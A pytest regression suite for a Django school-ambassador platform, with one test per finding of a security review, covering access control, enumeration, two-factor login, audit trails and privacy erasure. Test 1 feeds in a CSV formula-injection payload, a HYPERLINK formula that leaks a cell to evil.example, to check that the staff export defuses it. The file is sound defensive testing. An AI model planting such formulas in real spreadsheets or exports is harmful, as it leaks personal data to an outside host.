"""The findings of the security review (issue 16), one test each, written against what a person can do: each fails on
the code the review was made on and passes now. The tests beside the code go further; these are the checklist.

(The untested lock, the permission table and the three rules are findings about tests: see the race tests with
RACE_TESTS_WITHOUT_LOCKS=1, test_permission_matrix.py and matching/tests/test_rules.py.)"""

import csv
import datetime
import io
import subprocess
import sys
from pathlib import Path

import pytest
from allauth.account.models import EmailAddress
from django.conf import settings
from django.core import mail
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone

from accounts.models import Role, User
from accounts.tests.factories import PASSWORD
from ambassadors.models import AmbassadorProfile, StatusChange
from ambassadors.tests.factories import ActiveAmbassadorFactory, AmbassadorProfileFactory
from matching.models import MatchingRun, Placement, Proposal
from schools.models import NeedEvent, SchoolMembership
from schools.tests.factories import SchoolFactory, SchoolMembershipFactory, TeacherNeedFactory

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]


def application(**overrides):
    return {"first_name": "Pieter", "last_name": "van Dijk", "email": "pieter@example.nl", "phone": "0612345678",
            "postcode": "3511ab", "sector": "finance", "employer": "Rabobank", "employer_release": "yes",
            "motivations": ["social"], "preferred_tasks": ["classroom"], "school_types": ["vo"],
            "start_date": (timezone.localdate() + datetime.timedelta(days=30)).isoformat(),
            "commitment": "school_year", "day_amount": "full", "weekdays": ["2"], "max_distance_km": "12",
            "heard_via": "employer", "consent": "on", **overrides}


def test_1_a_formula_typed_into_the_application_does_not_run_in_the_staff_export(client, staff_user,
                                                                                 django_capture_on_commit_callbacks):
    formula = '=HYPERLINK("http://evil.example/?x="&C2,"Klik")'
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("ambassadors:apply"), application(first_name=formula))
    client.force_login(staff_user)
    response = client.get(reverse("ambassadors:staff_export"))
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    [row] = [r for r in csv.reader(io.StringIO(content), delimiter=";") if "pieter@example.nl" in r]
    assert not row[0].startswith("=")


def test_2_a_leader_cannot_attach_another_schools_teacher_or_see_their_name(client, leader_user, school):
    teacher = SchoolMembershipFactory(school=SchoolFactory(), user__role=Role.TEACHER, user__first_name="Geheime",
                                      user__last_name="Collega").user
    client.force_login(leader_user)
    client.post(reverse("schools:teacher_add", args=[school.pk]),
                {"email": teacher.email, "first_name": "X", "last_name": "Y"})
    assert not SchoolMembership.objects.filter(user=teacher, school=school).exists()
    assert "Geheime Collega" not in client.get(reverse("schools:school_detail", args=[school.pk])).content.decode()


def test_3a_the_teacher_form_answers_the_same_whether_or_not_an_address_has_an_account(client, leader_user, school):
    other = AmbassadorProfileFactory().user
    client.force_login(leader_user)
    answers = []
    for email in ("nieuw@example.nl", other.email):
        response = client.post(reverse("schools:teacher_add", args=[school.pk]),
                               {"email": email, "first_name": "X", "last_name": "Y"}, follow=True)
        answers.append((response.status_code, [str(m).replace(email, "…") for m in response.context["messages"]]))
    assert answers[0] == answers[1]


def test_3b_the_application_answers_the_same_and_the_owner_is_told(client, django_capture_on_commit_callbacks):
    cache.clear()
    owner = AmbassadorProfileFactory(user__email="bestaat@example.nl").user
    with django_capture_on_commit_callbacks(execute=True):
        new = client.post(reverse("ambassadors:apply"), application(email="nieuw@example.nl"))
        existing = client.post(reverse("ambassadors:apply"), application(email="bestaat@example.nl"))
    assert (existing.status_code, existing.get("Location")) == (new.status_code, new.get("Location"))
    assert [m for m in mail.outbox if m.to == [owner.email]]


def test_4_a_proposal_not_approved_by_staff_is_not_shown_to_the_school_or_ambassador(client, leader_user, school):
    need = TeacherNeedFactory(school=school)
    ambassador = ActiveAmbassadorFactory(employer="Geheime Werkgever")
    for status in ("proposed", "rejected"):
        proposal = Proposal.objects.create(run=MatchingRun.objects.create(), need=need, ambassador=ambassador,
                                           score=50, distance_km=3, weekday=2, day_part="morning", status=status)
        for person in (leader_user, ambassador.user):
            client.force_login(person)
            assert client.get(reverse("matching:proposal_answer", args=[proposal.pk])).status_code == 404


def test_5a_there_is_two_factor_login_and_staff_cannot_skip_it(client):
    staff = User.objects.create_user(email="nieuw.staf@example.nl", password=PASSWORD, role=Role.STAFF)
    EmailAddress.objects.create(user=staff, email=staff.email, primary=True, verified=True)
    client.post(reverse("account_login"), {"login": staff.email, "password": PASSWORD})
    response = client.get(reverse("reports:staff_dashboard"))
    assert response.status_code == 302 and response.url.startswith("/accounts/2fa/")
    assert client.get(response.url).status_code in (200, 302)


def test_5b_staff_cannot_make_themselves_superuser_or_set_passwords_in_the_admin(client, staff_user, ambassador_user):
    client.force_login(staff_user)
    client.post(reverse("admin:accounts_user_change", args=[staff_user.pk]),
                {"email": staff_user.email, "first_name": "M", "last_name": "D", "language": "nl",
                 "role": Role.STAFF, "is_active": "on", "is_superuser": "on"})
    client.post(reverse("admin:auth_user_password_change", args=[ambassador_user.pk]),
                {"password1": "Overgenomen-2026!", "password2": "Overgenomen-2026!"})
    staff_user.refresh_from_db()
    ambassador_user.refresh_from_db()
    assert not staff_user.is_superuser and not ambassador_user.check_password("Overgenomen-2026!")


def test_6a_history_cannot_be_rewritten_in_the_admin(client, staff_user):
    profile = AmbassadorProfileFactory()
    change = StatusChange.objects.create(profile=profile, from_status="", to_status="applied", note="Aangemeld")
    event = NeedEvent.objects.create(need=TeacherNeedFactory(), action="created")
    client.force_login(staff_user)
    client.post(f"/admin/ambassadors/statuschange/{change.pk}/change/",
                {"profile": profile.pk, "from_status": "", "to_status": "declined", "note": "Herschreven"})
    client.post(f"/admin/schools/needevent/{event.pk}/delete/", {"post": "yes"})
    change.refresh_from_db()
    assert change.to_status == "applied" and NeedEvent.objects.filter(pk=event.pk).exists()


def test_6b_ending_a_placement_and_exporting_are_recorded(client, staff_user):
    from accounts.models import AuditEvent  # the audit trail did not exist

    start = timezone.localdate() + datetime.timedelta(days=7)
    need = TeacherNeedFactory(start_date=start, end_date=start + datetime.timedelta(days=100))
    ambassador = ActiveAmbassadorFactory()
    proposal = Proposal.objects.create(run=MatchingRun.objects.create(), need=need, ambassador=ambassador, score=50,
                                       distance_km=3, weekday=2, day_part="morning", status="placed")
    placement = Placement.objects.create(proposal=proposal, need=need, ambassador=ambassador, weekday=2,
                                         day_part="morning", start_date=start, end_date=need.end_date)
    client.force_login(staff_user)
    client.post(reverse("matching:placement_end", args=[placement.pk]), {"reason": "Verhuisd"})
    client.get(reverse("ambassadors:staff_export"))
    assert AuditEvent.objects.filter(actor=staff_user, action="placement.ended").exists()
    assert AuditEvent.objects.filter(actor=staff_user, action="ambassadors.exported").exists()


def test_7_an_attackers_wrong_passwords_do_not_lock_out_the_owner(client, ambassador_user):
    cache.clear()
    for _ in range(10):
        client.post(reverse("account_login"), {"login": ambassador_user.email, "password": "fout"},
                    REMOTE_ADDR="203.0.113.9")
    response = client.post(reverse("account_login"), {"login": ambassador_user.email, "password": PASSWORD},
                           REMOTE_ADDR="198.51.100.20")
    assert response.status_code == 302 and client.session.get("_auth_user_id") == str(ambassador_user.pk)


def test_8_the_intake_confirmation_repeats_nothing_the_sender_typed(client, django_capture_on_commit_callbacks):
    cache.clear()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("schools:intake"), {
            "leader_name": "Gratis geld", "leader_phone": "0612345678", "leader_email": "slachtoffer@example.nl",
            "school_name": "Win een iPhone op spam.example", "school_type": "po", "brin": "",
            "board_name": "Klik hier", "postcode": "3511 AB", "city": "Utrecht", "school_profile": "Bezoek spam.example",
            "support_request": "Bezoek spam.example", "school_year": str(timezone.localdate().year),
            "ambassadors_wanted": "1", "consent": "on"})
    [message] = mail.outbox
    assert "spam.example" not in message.subject + message.body and "Gratis geld" not in message.body


def test_9a_links_last_a_day_for_a_reset_and_never_log_in(settings):
    assert settings.PASSWORD_RESET_TIMEOUT == 24 * 60 * 60
    assert settings.ACCOUNT_LOGIN_ON_PASSWORD_RESET is False


def test_9b_an_invitation_link_does_not_log_anyone_in(client, staff_user, django_capture_on_commit_callbacks):
    client.force_login(staff_user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reports:user_invite"), {"email": "nieuw@example.nl", "first_name": "N", "last_name": "V",
                                                     "role": Role.TEACHER, "school": SchoolFactory().pk,
                                                     "language": "nl"})
    client.logout()
    link = next(word for word in mail.outbox[-1].body.split() if "/accounts/invite/" in word)
    client.post(link, {"new_password1": "Zomer-in-Utrecht-2026", "new_password2": "Zomer-in-Utrecht-2026"})
    assert "_auth_user_id" not in client.session


def test_9c_sessions_end_when_idle_and_cookies_carry_the_host_prefix_in_production(tmp_path):
    assert settings.SESSION_IDLE_TIMEOUT <= 60 * 60 and settings.SESSION_COOKIE_AGE <= 24 * 60 * 60
    env = {"DEBUG": "0", "TESTING": "0", "SECRET_KEY": "x7#kq2!vL9@pZ4$wN8^mR1&tY6*uB3(eC5)hJ0_fG2+dS7=aK4",
           "ALLOWED_HOSTS": "platform.example", "SITE_URL": "https://platform.example", "VAR_DIR": str(tmp_path),
           "PATH": "/usr/bin:/bin"}
    result = subprocess.run([sys.executable, "manage.py", "shell", "-v", "0", "-c",
                             "from django.conf import settings as s; print(s.SESSION_COOKIE_NAME, s.CSRF_COOKIE_NAME)"],
                            cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert result.stdout.split() == ["__Host-sessionid", "__Host-csrftoken"], result.stderr


def test_10_seed_demo_refuses_to_run_with_debug_off(settings):
    from django.core.management import CommandError, call_command

    settings.DEBUG = False
    with pytest.raises(CommandError):
        call_command("seed_demo", "--schools", "1", "--ambassadors", "1", stdout=io.StringIO())
    assert not User.objects.filter(email="staff@demo.example").exists()


def test_11a_a_person_downloads_their_data_and_asks_for_erasure(client, ambassador_user):
    client.force_login(ambassador_user)
    assert ambassador_user.email in client.get("/privacy/my-data/download/").content.decode()
    assert client.get("/privacy/erasure/").status_code == 200


def test_11b_erasure_keeps_the_placements_and_history(staff_user):
    from reports.privacy import erase_person  # erasure did not exist

    start = timezone.localdate() - datetime.timedelta(days=200)
    need = TeacherNeedFactory(start_date=start, end_date=start + datetime.timedelta(days=100))
    ambassador = ActiveAmbassadorFactory(user__first_name="Zwaantje")
    proposal = Proposal.objects.create(run=MatchingRun.objects.create(), need=need, ambassador=ambassador, score=50,
                                       distance_km=3, weekday=2, day_part="morning", status="placed")
    Placement.objects.create(proposal=proposal, need=need, ambassador=ambassador, weekday=2, day_part="morning",
                             start_date=start, end_date=need.end_date, status="ended")
    erase_person(user=ambassador.user, actor=staff_user, reason="verzoek")
    assert Placement.objects.count() == 1 and AmbassadorProfile.objects.count() == 1
    assert not User.objects.filter(first_name="Zwaantje").exists()


def test_11c_the_privacy_statement_says_what_the_nightly_task_does(client):
    from reports.retention import RULES  # the retention task did not exist

    body = client.get(reverse("privacy")).content.decode()
    assert "na twee schooljaren verwijderd" not in body  # the promise nothing kept
    assert RULES and all(str(rule.months) in body for rule in RULES)
    assert "apply-retention" in settings.CELERY_BEAT_SCHEDULE
